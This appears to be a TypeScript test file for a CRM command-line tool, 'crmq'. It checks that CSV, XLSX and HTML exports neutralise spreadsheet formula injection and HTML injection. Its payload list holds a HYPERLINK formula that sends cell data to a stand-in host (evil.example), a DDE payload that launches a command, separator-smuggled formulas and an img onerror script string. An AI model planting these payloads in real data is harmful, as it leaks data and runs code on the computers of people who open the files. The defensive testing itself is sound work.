// Every file crmq writes for people to open (CSV, XLSX, HTML) is scanned for cells a spreadsheet would run as a
// formula. CSV files are read the way Excel reads them in each locale: split on , (en-US), on ; (ru-RU, de-DE)
// and on tab, both honouring quotes and naively, since Excel does not honour quotes that open mid-field.
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { csvCell } from '../../src/ui/table.js';
import { cli, tmp, write } from '../helpers.js';

const dir = tmp();
const out = join(dir, 'out');
const db = join(dir, 'hostile.duckdb');

/** What an attacker types into a CRM field. */
const PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '-1+1', '+49 30 1234567', '@SUM(1+1)*cmd|" /C calc"!A0', '\t=1+1', '\r=1+1', ' =1+1', 'Anna;=2+5', 'Boris,=2+5', 'Vera\n=2+5', '<img src=x onerror=alert(1)>'];

const TRIGGER = /^[ ]*[=+\-@\t\r]/;
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;
const risky = (field: string) => TRIGGER.test(field) && !PLAIN_NUMBER.test(field.trim());

/** Every field a spreadsheet might see in a CSV file, whichever separator and quote handling it uses. */
function fieldsOf(text: string): string[] {
  const fields: string[] = [];
  for (const delimiter of [',', ';', '\t']) {
    for (const rec of parse(text, { delimiter, relax_quotes: true, relax_column_count: true }) as string[][]) fields.push(...rec);
    for (const line of text.split(/\r?\n|\r/)) fields.push(...line.split(delimiter).map((f) => f.replace(/^"/, '')));
  }
  return fields;
}

beforeAll(async () => {
  const contacts = ['id,first_name,last_name,phone,email,company', ...PAYLOADS.map((p, i) => [i + 1, p, 'Иванов', p.startsWith('+') ? p : '+7 912 345-67-8' + (i % 10), `u${i}@example.ru`, p].map((c) => `"${String(c).replaceAll('"', '""')}"`).join(','))];
  // Two copies of each contact, so dedupe has clusters (and a merge plan) full of payloads.
  const twice = [...contacts, ...contacts.slice(1).map((l) => l.replace(/^"(\d+)"/, (_, n) => `"${Number(n) + 100}"`))];
  const deals = ['id,title,owner,stage,amount,currency,created_at,closed_at,status', ...PAYLOADS.map((p, i) => [i + 1, p, p, p, 1000 + i, 'RUB', '2026-10-05', '2026-10-20', 'won'].map((c) => `"${String(c).replaceAll('"', '""')}"`).join(','))];
  for (const [file, entity, lines] of [['contacts.csv', 'contacts', twice], ['deals.csv', 'deals', deals]] as const) {
    const r = await cli('import', write(dir, file, lines.join('\n') + '\n'), '--source', 'evil', '--preset', 'canonical', '--entity', entity, '--db', db);
    expect(r.code, r.stderr).toBeLessThan(2);
  }
  const outputs: string[][] = [
    ['check', '--select', 'contacts', '--format', 'csv', '--output', join(out, 'check.csv')],
    ['check', '--select', 'contacts', '--format', 'xlsx', '--output', join(out, 'check.xlsx')],
    ['report', 'manager-ranking', 'pipeline-forecast', '--from', '2026-10-01', '--to', '2026-10-31', '--format', 'csv', '--out', out],
    ['report', 'manager-ranking', '--from', '2026-10-01', '--to', '2026-10-31', '--format', 'xlsx', '--out', out],
    ['report', 'manager-ranking', '--from', '2026-10-01', '--to', '2026-10-31', '--format', 'html', '--out', out],
    ['dedupe', '--export', join(out, 'plan.csv')],
    ['dedupe', '--export', join(out, 'plan.xlsx')],
  ];
  write(out, '.keep', '');
  for (const args of outputs) {
    const r = await cli(...args, '--db', db);
    expect(r.code, `${args.join(' ')}: ${r.stderr}`).toBeLessThan(2);
  }
  for (const [name, sql] of [['sql.csv', 'SELECT first_name, phones, company, extra FROM contacts ORDER BY source_id'], ['imports.csv', '']] as const) {
    const r = sql ? await cli('sql', sql, '--format', 'csv', '--db', db) : await cli('imports', '--format', 'csv', '--db', db);
    write(out, name, r.stdout);
  }
}, 120_000);

describe('formula injection: no output cell runs as a formula', () => {
  it('every CSV, read with , ; or tab, with or without quote handling', () => {
    const files = readdirSync(out).filter((f) => f.endsWith('.csv'));
    expect(files.length).toBeGreaterThanOrEqual(6);
    for (const f of files) {
      const text = readFileSync(join(out, f), 'utf8');
      const bad = fieldsOf(text).filter(risky);
      expect(bad, f).toEqual([]);
    }
    // The payloads did reach the files (neutralised), so the scan had something to find.
    const all = files.map((f) => readFileSync(join(out, f), 'utf8')).join('\n');
    expect(all).toContain("'=HYPERLINK(");
    expect(all).toContain("'-1+1");
  });

  it('every XLSX cell is a value, never a formula from data (only crmq\'s own column totals)', async () => {
    const files = readdirSync(out).filter((f) => f.endsWith('.xlsx'));
    expect(files.length).toBe(3);
    let payloads = 0;
    for (const f of files) {
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.readFile(join(out, f));
      wb.eachSheet((ws) =>
        ws.eachRow((row) =>
          row.eachCell((cell) => {
            if (cell.type === ExcelJS.ValueType.Formula) expect(cell.formula, `${f} ${ws.name}!${cell.address}`).toMatch(/^SUM\([A-Z]+\d+:[A-Z]+\d+\)$/);
            if (typeof cell.value === 'string' && cell.value.includes('HYPERLINK')) payloads++;
          }),
        ),
      );
    }
    expect(payloads).toBeGreaterThan(0);
  });

  it('HTML escapes what it shows', () => {
    const html = readFileSync(join(out, readdirSync(out).find((f) => f.endsWith('.html'))!), 'utf8');
    expect(html).not.toContain('<img src=x onerror');
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
  });

  it('numbers stay numbers; text that looks like a formula gets a leading apostrophe and quotes', () => {
    expect([-5, 12.5, '-5', '2026-01-01', 'Anna'].map(csvCell)).toEqual(['-5', '12.5', '-5', '2026-01-01', 'Anna']);
    expect(['=1+1', '-1+1', '+7 912', '@x', '\tx', ['-1', '+49 1']].map(csvCell)).toEqual(['"\'=1+1"', '"\'-1+1"', '"\'+7 912"', '"\'@x"', '"\'\tx"', '"\'-1; \'+49 1"']);
    expect(csvCell('Anna;=2+5')).toBe('"Anna;\'=2+5"');
  });
});
